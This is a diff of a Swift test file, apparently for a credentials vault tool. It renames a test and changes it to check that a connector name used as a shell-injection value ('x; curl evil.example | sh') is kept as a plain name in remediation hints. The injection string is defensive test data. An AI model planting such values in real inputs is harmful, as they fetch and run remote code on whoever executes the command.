@@ -57,14 +57,14 @@ struct InsiderTests {
     #expect(try bea.verifyLog().verdicts.holds)
   }
 
-  @Test func `a name that would run in a shell stands in no command`() throws {
+  @Test func `a name that would run in a shell is told as a name: whoever makes a command of it takes it out`() throws {
     let name = "x; curl evil.example | sh"
     let details = ConnectorDetails(name: name, provider: "google", connectorID: "g")
     try vault.session(.dev).commit { transaction in
       try transaction.register(details, as: name)
     }
     let remedies = Set(try vault.session(.ada).exposures().filter { $0.kind == .connector }.map(\.remedy))
-    #expect(remedies == ["custody connector rotate crm-sync", "custody connector rotate NAME"])
+    #expect(remedies == [Hint(.rotate(.connector, "crm-sync")), Hint(.rotate(.connector, name))])
   }
 
   @Test func `no key of a developer or an auditor opens what was not shared with them`() throws {
